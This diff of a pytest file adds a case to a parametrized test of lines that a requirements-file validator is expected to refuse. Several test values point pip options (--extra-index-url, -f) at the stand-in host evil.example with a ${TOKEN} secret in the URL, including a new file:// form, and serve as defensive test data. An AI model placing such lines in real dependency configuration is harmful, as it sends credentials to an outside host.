@@ -60,6 +60,7 @@ def test_what_may_stay(tmp_path: Path, line: str) -> None:
         ('--extra-index-url "https://evil.example/x ${TOKEN}"', "address"),
         ("--extra-index-url https://${TOKEN}@pypi.acme.example@evil.example/", "credential"),
         ("-f \\\\evil.example\\share\\${TOKEN}", "address"),  # a Windows network path
+        ("-f file://evil.example/share/${TOKEN}", "address"),  # one written as a URL
     ],
 )
 def test_what_is_refused(tmp_path: Path, line: str, why: str) -> None:
